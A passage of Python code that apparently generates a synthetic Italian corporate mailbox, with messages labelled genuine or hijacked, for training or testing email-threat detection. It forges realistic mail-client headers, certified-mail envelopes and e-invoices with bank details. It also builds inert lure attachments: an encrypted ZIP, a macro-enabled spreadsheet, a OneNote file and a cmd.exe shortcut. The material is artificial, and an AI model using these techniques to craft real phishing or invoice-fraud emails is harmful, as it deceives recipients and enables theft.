        a("MIME-Version", "1.0"); H_.extend(cth); a("X-Originating-IP", f"[{opt.get('xoip') or getattr(who, 'xoip', '90.12.1.1')}]")
        a("X-WUM-FROM", "|~|"); a("X-WUM-TO", "|~|"); a("X-WUM-CC", "|~|"); a("X-WUM-REPLYTO", "|~|")
    elif client in ("apple", "iphonefr", "iphoneit"):
        a("From", fromh); H_.extend(cth); a("Mime-Version", "1.0 (Mac OS X Mail 16.0 \\(3826.200.121\\))" if client == "apple" else "1.0 (1.0)")
        a("Subject", sj); a("Date", date); a("References", refh); a("Cc", cch); a("To", toh); a("In-Reply-To", irth); a("Message-Id", m)
        a("X-Mailer", {"apple": "Apple Mail (2.3826.200.121)", "iphonefr": "iPhone Mail (22C152)", "iphoneit": "iPhone Mail (22D82)"}[client])
    elif client in ("gmailfr", "gmailand", "gws", "gmail"):
        a("MIME-Version", "1.0"); a("References", refh); a("In-Reply-To", irth); a("From", fromh); a("Date", date); a("Message-ID", m); a("Subject", sj)
        a("To", toh); a("Cc", cch); H_.extend(cth)
    elif client == "tb":
        a("Message-ID", m); a("Date", date); a("MIME-Version", "1.0"); a("User-Agent", "Mozilla Thunderbird"); a("Subject", sj); a("To", toh); a("Cc", cch)
        a("References", refh); a("Content-Language", "it"); a("From", fromh); a("Organization", opt.get("org", "Chianti Informatica s.r.l." if who.dom == "chiantinformatica.example" else None)); a("In-Reply-To", irth); H_.extend(cth)
    elif client == "roundcube":
        a("MIME-Version", "1.0"); a("Date", date); a("From", fromh); a("To", toh); a("Cc", cch); a("Subject", sj); a("In-Reply-To", irth); a("References", refh)
        a("Message-ID", m); a("X-Sender", who.email); a("User-Agent", "Roundcube Webmail/" + opt.get("rcver", "1.6.9")); H_.extend(cth)
    elif client == "notes":
        a("In-Reply-To", irth); a("References", refh); a("Subject", sj); a("From", fromh); a("To", toh); a("Cc", cch); a("Message-ID", m); a("Date", date)
        a("MIME-Version", "1.0"); a("X-KeepSent", f"{HX(8)}:{HX(8)}-C1258{HX(3)}:{HX(8)};\n type=4; name=$KeepSent")
        a("X-Mailer", "HCL Notes Release 12.0.2FP3 March 20, 2024")
        lt = t.astimezone(ROME)
        a("X-MIMETrack", f"Serialize by Router on NOTESMAIL01/BTC(Release 12.0.2FP3|March 20, 2024) at\n {lt:%d/%m/%Y %H:%M:%S},\n\tSerialize complete at {lt:%d/%m/%Y %H:%M:%S}")
        H_.extend(cth)
    else:
        a("From", fromh); a("To", toh); a("Cc", cch); a("Subject", sj); a("Date", date); a("Message-ID", m); a("In-Reply-To", irth); a("References", refh)
        a("MIME-Version", "1.0"); H_.extend(cth)
    H_ += list(extra)
    h = transport(who, t, client, env, infra, opt, from_dom) if folder == "INBOX" else []
    h += H_
    raw = "\n".join(f"{k}: {v}" for k, v in h) + "\n\n" + "\n".join(ser(tree))
    raw = raw.replace("\r\n", "\n").replace("\r", "\n").rstrip("\n") + "\n"
    raw = raw.replace("\n", "\r\n")
    arrival = t + TD(seconds=20) if folder == "INBOX" else t
    seq[0] += 1
    pending.append((arrival.astimezone(UTC), seq[0], folder, raw, (m, label) if label else None, scen))
    return m


PFX = {"ol": "R: ", "olatk": "R: ", "exo": "R: ", "exofr": "RE : ", "owa": "RE: ", "outlookcom": "RE: ", "notes": "Rif: "}
FPFX = {"ol": "I: ", "exo": "I: ", "exofr": "TR : ", "owa": "FW: ", "notes": "Inoltro: "}
import re
def base_subj(s):
    while True:
        n = re.sub(r"^\s*(R|RE|Re|Rif|I|TR|Fwd|FW|Fw|AW)\s?:\s*", "", s)
        if n == s: return s
        s = n


G = ("genuine", "genuine-reply"); GH = ("genuine", "genuine-hard"); GO = ("genuine", "genuine-orphan")
def HJ(kind): return ("hijack", kind)


class Thread:
    def __init__(s, tid, partner, subj):
        s.tid, s.p, s.subj, s.refs, s.last, s.recs = tid, partner, subj, [], None, []
        s.tbase = None; s.blocks = []; s.np = 0

    def add(s, who, text, t, label=None, client=None, to=None, cc=None, sig=True, quote=True, subj=None, scen=None, quote_text=None,
            detached=False, quote_rec=None, **kw):
        client = client or who.client
        plain = text + ((who.sig if sig is True else sig) if sig else "")
        if quote and (quote_rec or s.last):
            q = dict(quote_rec or s.last)
            if quote_text is not None: q["plain"] = quote_text
            plain += quote_of(client, q, who.tz)
        if subj is None:
            if not s.refs: subj = s.subj
            else: subj = PFX.get(client, "Re: ") + re.sub(r"^\s*((R|RE|Re|Rif|AW)\s?:\s*)+", "", s.subj)
        if to is None:
            if who is me: to = [(s.p.name, s.p.email)]
            else: to = [(me.name, me.email)]
        if who is not me and s.refs and label is None: label = G
        if label == G and scen is None:
            s.np += 1; scen = (f"P-{s.tid}-{s.np}", f"plain in-thread reply from {who.name} in {s.tid} '{s.subj}'")
        if s.tbase is None: s.tbase = b"\x01" + (filetime(t) >> 24).to_bytes(5, "big") + rbytes(16)
        while len(s.blocks) < len(s.refs): s.blocks.append(rbytes(5))
        if "tidx" not in kw: kw["tidx"] = base64.b64encode(s.tbase + b"".join(s.blocks[:len(s.refs)])).decode()
        m = emit(who, client, t, to, cc, subj, list(s.refs[-12:]), plain, label=label, topic=base_subj(s.subj), scen=scen, **kw)
        if detached: return m
        s.refs.append(m)
        s.last = dict(t=t, name=who.name, email=who.email, plain=plain, subj=subj, to=to, cc=cc or [])
        s.recs.append(s.last)
        return m


# ---------------------------------------------------------------- inert attachments with real container structure
def zipfile_bytes(members, when):
    bio = io.BytesIO(); z = zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED)
    for name, data in members:
        zi = zipfile.ZipInfo(name, date_time=when); zi.compress_type = zipfile.ZIP_DEFLATED; zi.external_attr = 0o644 << 16; z.writestr(zi, data)
    z.close(); return bio.getvalue()


def zip_encrypted(members, when):
    """legacy ZipCrypto layout (flag bit 0, 12-byte encryption header + random payload); no real plaintext inside"""
    dost = ((when[3] << 11) | (when[4] << 5) | (when[5] // 2)); dosd = (((when[0] - 1980) << 9) | (when[1] << 5) | when[2])
    out, cd = bytearray(), bytearray()
    for name, size in members:
        nb = name.encode(); crc = R.getrandbits(32); comp = int(size * 0.93) + 12; data = rbytes(comp); off = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 1 | 8, 8, dost, dosd, 0, 0, 0, len(nb), 0) + nb + data
        out += struct.pack("<IIII", 0x08074b50, crc, comp, size)
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 1 | 8, 8, dost, dosd, crc, comp, size, len(nb), 0, 0, 0, 0, 0o644 << 16, off) + nb
    end = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, len(members), len(members), len(cd), len(out), 0)
    return bytes(out + cd + end)


def pdf_esc(s): return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def pdf(lines, producer="Microsoft® Word per Microsoft 365", when="20250303091200", zone="+01'00'", uris=(), title=None, encrypt=False):
    content = ("BT /F1 11 Tf 14 TL 72 770 Td " + " ".join(f"({pdf_esc(l)}) '" for l in lines) + " ET").encode("cp1252", "replace")
    if encrypt: content = rbytes(len(content) + 16 - len(content) % 16)
    objs = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", None,
            f"<< /Length {len(content)} >>\nstream\n", "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
            f"<< /Producer ({pdf_esc(producer)}) /CreationDate (D:{when}{zone}) /ModDate (D:{when}{zone})" + (f" /Title ({pdf_esc(title)})" if title else "") + " >>"]
    annots = []
    for i, u in enumerate(uris):
        objs.append(f"<< /Type /Annot /Subtype /Link /Rect [72 {620 - 40 * i} 523 {650 - 40 * i}] /Border [0 0 0] /A << /S /URI /URI ({pdf_esc(u)}) >> >>")
        annots.append(len(objs))
    objs[2] = ("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R"
               + (f" /Annots [{' '.join(f'{a} 0 R' for a in annots)}]" if annots else "") + " >>")
    if encrypt: objs.append(f"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <{hx(64)}> /U <{hx(64)}> >>")
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"); offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += (f"4 0 obj\n{o}".encode() + content + b"\nendstream\nendobj\n") if i == 4 else f"{i} 0 obj\n{o}\nendobj\n".encode("cp1252", "replace")
    x = len(out); fid = hx(32)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode() + b"".join(f"{o:010d} 00000 n \n".encode() for o in offs)
    out += (f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R /Info 6 0 R /ID [<{fid}> <{fid}>]" + (f" /Encrypt {len(objs)} 0 R" if encrypt else "")
            + f" >>\nstartxref\n{x}\n%%EOF\n").encode()
    return bytes(out)


def pdf_protected(lines, when, producer="Zucchetti HR - Stampa cedolini"):
    return pdf(lines, producer=producer, when=when, encrypt=True)


def xml_esc(s): return H.escape(s, quote=True)


def xlsx(rows, creator, when="2024-10-01T09:00:00Z", sheet="Foglio1", macro=False):
    def col(i):
        s = ""
        while True:
            s = chr(65 + i % 26) + s; i = i // 26 - 1
            if i < 0: return s
    data = []
    for r, row in enumerate(rows, 1):
        cells = []
        for c, v in enumerate(row):
            ref = f"{col(c)}{r}"
            if isinstance(v, (int, float)): cells.append(f'<c r="{ref}"><v>{v}</v></c>')
            elif v: cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{xml_esc(str(v))}</t></is></c>')
        data.append(f'<row r="{r}">' + "".join(cells) + "</row>")
    sheet_xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheetData>' + "".join(data) + "</sheetData></worksheet>")
    ct_main = "application/vnd.ms-excel.sheet.macroEnabled.main+xml" if macro else "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    files = [
        ("[Content_Types].xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
         f'<Override PartName="/xl/workbook.xml" ContentType="{ct_main}"/>'
         '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
         '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
         '<Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/></Types>'),
        ("_rels/.rels", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties" Target="docProps/app.xml"/>'
         '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
        ("xl/workbook.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
         f'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="{xml_esc(sheet)}" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        ("xl/_rels/workbook.xml.rels", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
        ("xl/worksheets/sheet1.xml", sheet_xml),
        ("docProps/core.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
         'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
         f'<dc:creator>{xml_esc(creator)}</dc:creator><cp:lastModifiedBy>{xml_esc(creator)}</cp:lastModifiedBy>'
         f'<dcterms:created xsi:type="dcterms:W3CDTF">{when}</dcterms:created><dcterms:modified xsi:type="dcterms:W3CDTF">{when}</dcterms:modified></cp:coreProperties>'),
        ("docProps/app.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
         '<Application>Microsoft Excel</Application><AppVersion>16.0300</AppVersion></Properties>')]
    y, mo, d = int(when[:4]), int(when[5:7]), int(when[8:10])
    return zipfile_bytes([(n, c.encode()) for n, c in files], (y, mo, d, int(when[11:13]), int(when[14:16]), 0))


XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# DER helpers for PKCS#7 (PEC smime.p7s, FatturaPA .p7m)
def der(tag, content):
    n = len(content)
    if n < 128: ln = bytes([n])
    else:
        b = n.to_bytes((n.bit_length() + 7) // 8, "big"); ln = bytes([0x80 | len(b)]) + b
    return bytes([tag]) + ln + content
def d_seq(*xs): return der(0x30, b"".join(xs))
def d_set(*xs): return der(0x31, b"".join(xs))
def d_int(v): b = v.to_bytes((v.bit_length() + 8) // 8 or 1, "big"); return der(0x02, b)
def d_oid(s):
    p = [int(x) for x in s.split(".")]; out = bytes([40 * p[0] + p[1]])
    for v in p[2:]:
        enc = [v & 0x7f]; v >>= 7
        while v: enc.insert(0, 0x80 | (v & 0x7f)); v >>= 7
        out += bytes(enc)
    return der(0x06, out)
def d_null(): return b"\x05\x00"
def d_utf8(s): return der(0x0c, s.encode())
def d_print(s): return der(0x13, s.encode())
def d_utc(dt): return der(0x17, dt.astimezone(UTC).strftime("%y%m%d%H%M%SZ").encode())
def d_ctx(n, c, cons=True): return der((0xa0 if cons else 0x80) | n, c)
def d_name(o, cn): return d_seq(d_set(d_seq(d_oid("2.5.4.6"), d_print("IT"))), d_set(d_seq(d_oid("2.5.4.10"), d_utf8(o))), d_set(d_seq(d_oid("2.5.4.3"), d_utf8(cn))))


def pkcs7(issuer, subject, t, content=None):
    sha256, rsa, sharsa = "2.16.840.1.101.3.4.2.1", "1.2.840.113549.1.1.1", "1.2.840.113549.1.1.11"
    tbs = d_seq(d_ctx(0, d_int(2)), d_int(R.getrandbits(63)), d_seq(d_oid(sharsa), d_null()), d_name(*issuer),
                d_seq(d_utc(t - TD(days=400)), d_utc(t + TD(days=695))), d_name(*subject),
                d_seq(d_seq(d_oid(rsa), d_null()), der(0x03, b"\x00" + d_seq(d_int(R.getrandbits(2047) | (1 << 2047)), d_int(65537)))))
    cert = d_seq(tbs, d_seq(d_oid(sharsa), d_null()), der(0x03, b"\x00" + rbytes(256)))
    encap = d_seq(d_oid("1.2.840.113549.1.7.1")) if content is None else d_seq(d_oid("1.2.840.113549.1.7.1"), d_ctx(0, der(0x04, content)))
    signer = d_seq(d_int(1), d_seq(d_name(*issuer), d_int(R.getrandbits(63))), d_seq(d_oid(sha256), d_null()),
                   d_ctx(0, d_seq(d_oid("1.2.840.113549.1.9.3"), d_set(d_oid("1.2.840.113549.1.7.1"))) + d_seq(d_oid("1.2.840.113549.1.9.5"), d_set(d_utc(t)))
                         + d_seq(d_oid("1.2.840.113549.1.9.4"), d_set(der(0x04, rbytes(32))))),
                   d_seq(d_oid(rsa), d_null()), der(0x04, rbytes(256)))
    sd = d_seq(d_int(1), d_set(d_seq(d_oid(sha256), d_null())), encap, d_ctx(0, cert), d_set(signer))
    return d_seq(d_oid("1.2.840.113549.1.7.2"), d_ctx(0, sd))


def onenote(title):
    hdr = uuid.UUID("7B5C52E4-D88C-4DA7-AEB1-5378D02996D3").bytes_le + uuid.UUID("00000000-0000-0000-0000-000000000000").bytes_le \
        + uuid.UUID("00000000-0000-0000-0000-000000000000").bytes_le + uuid.UUID("109ADD3F-911B-49F5-A5D0-1791EDC8AED8").bytes_le
    hdr += struct.pack("<IIII", 0x2A, 0x2A, 0x2A, 0x2A) + rbytes(1024 - len(hdr) - 16)
    fds = uuid.UUID("BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC").bytes_le
    blob = b"<!-- inert probe placeholder: embedded file body removed -->\r\n" * 4
    body = rbytes(2048) + title.encode("utf-16-le") + rbytes(600) + fds + struct.pack("<QII", len(blob), 0, 0) + blob + uuid.UUID("71FBA722-0F79-4A0B-BB13-899256426B24").bytes_le + rbytes(900)
    return hdr + body


def lnk_bytes(args):
    return (b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46" + struct.pack("<I", 0x000000A3) + rbytes(52)
            + "C:\\Windows\\System32\\cmd.exe".encode("utf-16-le") + b"\x00\x00" + args.encode("utf-16-le") + b"\x00\x00" + rbytes(32))


def png(w=320, h=200):
    def chunk(tp, data): return struct.pack(">I", len(data)) + tp + data + struct.pack(">I", zlib.crc32(tp + data) & 0xffffffff)
    rows = b"".join(b"\x00" + bytes((R.randint(120, 200) if (x // 30 + y // 30) % 5 else 60) for x in range(w * 3)) for y in range(h))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(rows, 6)) + chunk(b"IEND", b"")


def jpeg(k=3000):
    return (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00" + b"\xff\xe1\x00\x22Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08" + rbytes(20)
            + b"\xff\xdb\x00\x43\x00" + rbytes(64) + b"\xff\xc0\x00\x11\x08\x03\x00\x04\x00\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
            + b"\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00" + bytes(b if b != 0xff else 0xfe for b in rbytes(k)) + b"\xff\xd9")


# ---------------------------------------------------------------- PEC (posta elettronica certificata) and SDI
PEC_ME = "pelletteriaarnolfi@pec.example"
PEC_PROV = {"legalmail.example": ("LEGALMAIL CERT S.p.A.", "smtp-out4.legalmail.example", "185.106.131.{}"),
            "pec.example": ("ARUBA PEC S.p.A.", None, None),
            "pec.fatturapa.example": ("SOGEI PEC - Sistema di Interscambio", "pec-out1.pec.fatturapa.example", "151.1.98.{}")}


def daticert(tipo, sender, subj, t, envmid, origmid, prov, consegna=None, dest=PEC_ME):
    z = t.strftime("%z")
    x = (f'<?xml version="1.0" encoding="UTF-8"?>\n<postacert tipo="{tipo}" errore="nessuno">\n  <intestazione>\n    <mittente>{sender}</mittente>\n'
         f'    <destinatari tipo="certificato">{dest}</destinatari>\n    <risposte>{sender}</risposte>\n    <oggetto>{xml_esc(subj)}</oggetto>\n  </intestazione>\n'
         f'  <dati>\n    <gestore-emittente>{PEC_PROV[prov][0]}</gestore-emittente>\n    <data zona="{z}">\n      <giorno>{t:%d/%m/%Y}</giorno>\n'
         f'      <ora>{t:%H:%M:%S}</ora>\n    </data>\n    <identificativo>{envmid[1:-1]}</identificativo>\n    <msgid>{xml_esc(origmid)}</msgid>\n')
    if consegna: x += f"    <consegna>{consegna}</consegna>\n"
    return x + "  </dati>\n</postacert>\n"


def inner_message(frm, to, subj, t, mid, plain, atts, mailer="Legalmail Webmail 5"):
    bnd = "----=_Part_" + hx(20)
    lines = [f"Date: {rfc(t)}", f"From: {frm}", f"To: {to}", f"Message-ID: {mid}", f"Subject: {enc_h(subj)}", "MIME-Version: 1.0"]
    if mailer: lines.append(f"X-Mailer: {mailer}")
    if not atts:
        return "\n".join(lines + ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: quoted-printable", "", qp(plain)])
    body = lines + [f'Content-Type: multipart/mixed;\n\tboundary="{bnd}"', "", f"--{bnd}", "Content-Type: text/plain; charset=UTF-8",
                    "Content-Transfer-Encoding: quoted-printable", "", qp(plain)]
    for n, d, c in atts:
        body += [f"--{bnd}", f'Content-Type: {c}; name="{n}"', "Content-Transfer-Encoding: base64", f'Content-Disposition: attachment; filename="{n}"', "", b64wrap(d)]
    return "\n".join(body + [f"--{bnd}--", ""])


def pec_tree(t, text, xml_data, inner_raw, issuer):
    bd = lambda: "----=_Part_" + hx(20)
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-8\"><title>Messaggio di posta certificata</title></head><body>"
            "<table border=\"0\" width=\"100%\" cellpadding=\"4\"><tr><td bgcolor=\"#0066CC\"><font color=\"#FFFFFF\" face=\"Arial\"><b>"
            + H.escape(text.split("\n")[0]) + "</b></font></td></tr><tr><td><font face=\"Arial\" size=\"2\">" + _esc("\n".join(text.split("\n")[2:]))
            + "</font></td></tr></table></body></html>")
    alt = multi("alternative", [leaf("text/plain; charset=UTF-8", qp(text), "quoted-printable"), leaf("text/html; charset=UTF-8", qp(html), "quoted-printable")], bd())
    parts = [alt, leaf('application/xml; name="daticert.xml"', b64wrap(xml_data.encode()), "base64", [("Content-Disposition", 'inline; filename="daticert.xml"')])]
    if inner_raw is not None:
        parts.append(leaf('message/rfc822; name="postacert.eml"', inner_raw.rstrip("\n"), None, [("Content-Disposition", 'inline; filename="postacert.eml"')]))
    mixed = multi("mixed", parts, bd())
    p7s = leaf('application/pkcs7-signature; name="smime.p7s"', b64wrap(pkcs7(issuer, (issuer[0], "posta-certificata"), t)), "base64",
               [("Content-Disposition", 'attachment; filename="smime.p7s"')])
    return multi("signed", [mixed, p7s], bd(), params=' protocol="application/pkcs7-signature"; micalg=sha-256;')


def pec_in(t, sender, prov, subj, plain, atts=(), label=None, scen=None, inner_from=None, refs=(), mailer="Legalmail Webmail 5"):
    """a certified message received in the PEC box and forwarded to Giulia (transport envelope 'POSTA CERTIFICATA:')"""
    inner_mid = f"<{hx(8)}.{hx(4)}.{int(t.timestamp())}@{prov if prov != 'pec.fatturapa.example' else 'pec.fatturapa.example'}>"
    t_in = t - TD(seconds=R.randint(5, 40))
    inner = inner_message(inner_from or sender, PEC_ME, subj, t_in, inner_mid, plain, atts, mailer)
    envmid = f"<opec21012.{t:%Y%m%d%H%M%S}.{R.randint(10000, 99999)}.{R.randint(100, 999)}.1.{R.randint(40, 70)}@{prov}>"
    text = (f"Messaggio di posta certificata\n\nIl giorno {t:%d/%m/%Y} alle ore {t:%H:%M:%S} ({t:%z}) il messaggio\n\"{subj}\" è stato inviato da \"{sender}\"\n"
            f"indirizzato a:\n{PEC_ME}\nIl messaggio originale è incluso in allegato.\nIdentificativo messaggio: {envmid[1:-1]}")
    tree = pec_tree(t, text, daticert("posta-certificata", sender, subj, t, envmid, inner_mid, prov), inner, (PEC_PROV[prov][0], f"{PEC_PROV[prov][0]} CA 3"))
    who = Pt(f"Per conto di: {sender}", f"posta-certificata@{prov}", "pec", "legalmail")
    src = PEC_PROV[prov][1]
    return emit(who, "pec", t, [(None, PEC_ME)], None, "POSTA CERTIFICATA: " + subj, list(refs), "", tree=tree, label=label, scen=scen,
                env=PEC_ME, from_dom=prov, extra=[("Reply-To", sender), ("X-Riferimento-Message-ID", inner_mid), ("X-Trasporto", "posta-certificata")],
                opt={"pec_src": src, "pec_ip": (PEC_PROV[prov][2] or "").format(R.randint(10, 40))},
                mid=envmid)


def pec_receipt(t, kind, subj, orig_mid, dest, label=None, scen=None, full_raw=None):
    prov = "pec.example"
    envmid = f"<opec21012.{t:%Y%m%d%H%M%S}.{R.randint(10000, 99999)}.{R.randint(100, 999)}.1.{R.randint(40, 70)}@{prov}>"
    if kind == "accettazione":
        text = (f"Ricevuta di accettazione\n\nIl giorno {t:%d/%m/%Y} alle ore {t:%H:%M:%S} ({t:%z}) il messaggio\n\"{subj}\" proveniente da \"{PEC_ME}\"\n"
                f"ed indirizzato a:\n{dest} (\"posta certificata\")\nè stato accettato dal sistema ed inoltrato.\nIdentificativo messaggio: {envmid[1:-1]}")
        sj, xr, inner = "ACCETTAZIONE: " + subj, "accettazione", None
    else:
        text = (f"Ricevuta di avvenuta consegna\n\nIl giorno {t:%d/%m/%Y} alle ore {t:%H:%M:%S} ({t:%z}) il messaggio\n\"{subj}\" proveniente da \"{PEC_ME}\"\n"
                f"ed indirizzato a \"{dest}\"\nè stato consegnato nella casella di destinazione.\nIdentificativo messaggio: {envmid[1:-1]}")
        sj, xr, inner = "CONSEGNA: " + subj, "avvenuta-consegna", full_raw
    tree = pec_tree(t, text, daticert(xr, PEC_ME, subj, t, envmid, orig_mid, prov, consegna=dest if kind != "accettazione" else None, dest=dest),
                    inner, (PEC_PROV[prov][0], f"{PEC_PROV[prov][0]} CA 3"))
    who = Pt("", f"posta-certificata@{prov}", "pec", "legalmail")
    return emit(who, "pec", t, [(None, PEC_ME)], None, sj, [], "", tree=tree, label=label, scen=scen, env=PEC_ME, from_dom=prov, frm=f"posta-certificata@{prov}",
                extra=[("X-Ricevuta", xr), ("X-Riferimento-Message-ID", orig_mid), ("X-Verifica-Sicurezza", "errore")] if False else
                [("X-Ricevuta", xr), ("X-Riferimento-Message-ID", orig_mid)], mid=envmid)


def fattura_xml(ced, ces, num, data, righe, iban, bank, tp="TD01", pag="MP05", scad=None):
    tot = round(sum(q * p for _, q, p in righe), 2); iva = round(tot * 0.22, 2)
    det = "".join(f"<DettaglioLinee><NumeroLinea>{i}</NumeroLinea><Descrizione>{xml_esc(d)}</Descrizione><Quantita>{q:.2f}</Quantita>"
                  f"<PrezzoUnitario>{p:.2f}</PrezzoUnitario><PrezzoTotale>{q * p:.2f}</PrezzoTotale><AliquotaIVA>22.00</AliquotaIVA></DettaglioLinee>"
                  for i, (d, q, p) in enumerate(righe, 1))
    def party(tag, p):
        return (f"<{tag}><DatiAnagrafici><IdFiscaleIVA><IdPaese>IT</IdPaese><IdCodice>{p[1]}</IdCodice></IdFiscaleIVA><Anagrafica><Denominazione>{xml_esc(p[0])}"
                f"</Denominazione></Anagrafica>" + ("<RegimeFiscale>RF01</RegimeFiscale>" if tag == "CedentePrestatore" else "") + f"</DatiAnagrafici><Sede><Indirizzo>{xml_esc(p[2])}</Indirizzo>"
                f"<CAP>{p[3]}</CAP><Comune>{xml_esc(p[4])}</Comune><Provincia>{p[5]}</Provincia><Nazione>IT</Nazione></Sede></{tag}>")
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<p:FatturaElettronica versione="FPR12" xmlns:ds="http://www.w3.org/2000/09/xmldsig#" '
            'xmlns:p="http://ivaservizi.agenziaentrate.gov.it/docs/xsd/fatture/v1.2" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
            f"<FatturaElettronicaHeader><DatiTrasmissione><IdTrasmittente><IdPaese>IT</IdPaese><IdCodice>{ced[1]}</IdCodice></IdTrasmittente>"
            f"<ProgressivoInvio>{alnum(5)}</ProgressivoInvio><FormatoTrasmissione>FPR12</FormatoTrasmissione><CodiceDestinatario>0000000</CodiceDestinatario>"
            f"<PECDestinatario>{PEC_ME}</PECDestinatario></DatiTrasmissione>" + party("CedentePrestatore", ced) + party("CessionarioCommittente", ces)
            + f"</FatturaElettronicaHeader><FatturaElettronicaBody><DatiGenerali><DatiGeneraliDocumento><TipoDocumento>{tp}</TipoDocumento><Divisa>EUR</Divisa>"
            f"<Data>{data}</Data><Numero>{num}</Numero><ImportoTotaleDocumento>{tot + iva:.2f}</ImportoTotaleDocumento></DatiGeneraliDocumento></DatiGenerali>"
            f"<DatiBeniServizi>{det}<DatiRiepilogo><AliquotaIVA>22.00</AliquotaIVA><ImponibileImporto>{tot:.2f}</ImponibileImporto><Imposta>{iva:.2f}</Imposta>"
            f"<EsigibilitaIVA>I</EsigibilitaIVA></DatiRiepilogo></DatiBeniServizi><DatiPagamento><CondizioniPagamento>TP02</CondizioniPagamento><DettaglioPagamento>"
            f"<ModalitaPagamento>{pag}</ModalitaPagamento><DataScadenzaPagamento>{scad or data}</DataScadenzaPagamento><ImportoPagamento>{tot + iva:.2f}</ImportoPagamento>"
            + (f"<IstitutoFinanziario>{xml_esc(bank)}</IstitutoFinanziario><IBAN>{iban}</IBAN>" if iban else "")
            + "</DettaglioPagamento></DatiPagamento></FatturaElettronicaBody></p:FatturaElettronica>\n")


def sdi_in(t, idsdi, fname, xml, label=None, scen=None, signer=("Conceria Valdarno S.p.A.", "BELLUCCI GIANNI")):
    meta = (f'<?xml version="1.0" encoding="UTF-8"?>\n<ns2:FileMetadati xmlns:ns2="http://ivaservizi.agenziaentrate.gov.it/docs/xsd/fatture/messaggi/v1.0" '
            f'versione="1.0"><IdentificativoSdI>{idsdi}</IdentificativoSdI><NomeFile>{fname}</NomeFile><Hash>{hx(64)}</Hash>'
            f"<CodiceDestinatario>0000000</CodiceDestinatario><Formato>FPR12</Formato><TentativiInvio>1</TentativiInvio>"
            f"<MessageId>{R.randint(10**9, 10**10 - 1)}</MessageId></ns2:FileMetadati>\n")
    p7m = pkcs7(("InfoCamere S.C.p.A.", "InfoCamere Qualified Electronic Signature CA"), signer, t, xml.encode())
    return pec_in(t, "sdi24@pec.fatturapa.example", "pec.fatturapa.example", f"Invio File {idsdi}",
                  f"Si trasmette in allegato il file {fname} con il relativo file di metadati.\n\nIdentificativo SdI: {idsdi}\n\n"
